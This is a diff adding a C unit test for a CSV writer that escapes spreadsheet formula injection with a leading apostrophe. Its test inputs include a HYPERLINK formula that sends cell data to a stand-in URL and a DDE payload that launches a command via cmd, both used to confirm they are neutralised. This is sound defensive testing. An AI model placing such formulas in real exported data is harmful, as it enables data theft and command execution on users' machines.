@@ -326,6 +326,80 @@ static void test_put_field_round_trip(void **state)
 	cep_buf_free(&b);
 }
 
+/* A report's text that a spreadsheet would run as a formula gets an
+ * apostrophe in front; numbers and other text are written as they are. */
+static void test_put_text_formulas(void **state)
+{
+	static const struct {
+		const char *in, *out;
+	} cases[] = {
+		{ "=HYPERLINK(\"http://x/?\"&A1,\"見る\")", "\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"見る\"\")\"" },
+		{ "+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0" },
+		{ "-2+3", "'-2+3" },
+		{ "@SUM(A1:A9)", "'@SUM(A1:A9)" },
+		{ "\t=1", "'\t=1" },
+		{ "\r=1", "\"'\r=1\"" },
+		{ "=", "'=" },
+		{ "-", "'-" },
+		{ "+81-3-1234-5678", "'+81-3-1234-5678" },
+		{ "-1.5", "-1.5" },     /* numbers stay numbers */
+		{ "+42", "+42" },
+		{ "-0.25e-3", "-0.25e-3" },
+		{ "-.5", "-.5" },
+		{ "-1e", "'-1e" },      /* not a number */
+		{ "-.", "'-." },
+		{ "a=b", "a=b" },       /* only a first character counts */
+		{ "電力", "電力" },
+		{ "", "" },
+		{ "\xEF\xBB\xBF=x", "\"\xEF\xBB\xBF=x\"" }, /* a BOM first: quoted, as before */
+		{ "'=x", "''=x" }, /* apostrophes of its own: one more, told apart */
+		{ "''-x", "'''-x" },
+		{ "'x", "'x" },
+		{ "'", "'" },
+		{ "'-1", "'-1" },
+	};
+
+	(void)state;
+	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
+		struct cep_buf b;
+
+		cep_buf_init(&b, 1024);
+		assert_int_equal(cep_csv_put_text(&b, cases[i].in), 0);
+		assert_string_equal(b.data ? b.data : "", cases[i].out);
+		cep_buf_free(&b);
+	}
+	/* read back, each text is the one written (the fields without quotes) */
+	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++)
+		if (cases[i].out[0] != '"')
+			assert_string_equal(cep_csv_text(cases[i].out), cases[i].in);
+	{ /* read back, the field is the text with its apostrophe */
+		struct cep_buf b;
+		struct cep_csv *c;
+		char **f;
+		size_t n, line;
+
+		cep_buf_init(&b, 1024);
+		assert_int_equal(cep_csv_put_text(&b, "=1,2"), 0);
+		assert_int_equal(cep_buf_puts(&b, "\r\n"), 0);
+		c = cep_csv_new(b.data, b.len, 4, 64);
+		assert_non_null(c);
+		assert_int_equal(cep_csv_next(c, &f, &n, &line), 1);
+		assert_int_equal(n, 1);
+		assert_string_equal(f[0], "'=1,2");
+		assert_string_equal(cep_csv_text(f[0]), "=1,2");
+		cep_csv_free(c);
+		cep_buf_free(&b);
+	}
+	{ /* the cap holds, all or nothing */
+		struct cep_buf b;
+
+		cep_buf_init(&b, 4);
+		assert_int_equal(cep_csv_put_text(&b, "=abc"), CEP_ETOOBIG);
+		assert_int_equal(b.len, 0);
+		cep_buf_free(&b);
+	}
+}
+
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
@@ -343,6 +417,7 @@ int main(void)
 		cmocka_unit_test(test_caps),
 		cmocka_unit_test(test_put_field_quoting),
 		cmocka_unit_test(test_put_field_round_trip),
+		cmocka_unit_test(test_put_text_formulas),
 	};
 
 	return cmocka_run_group_tests_name("csv", tests, NULL, NULL);
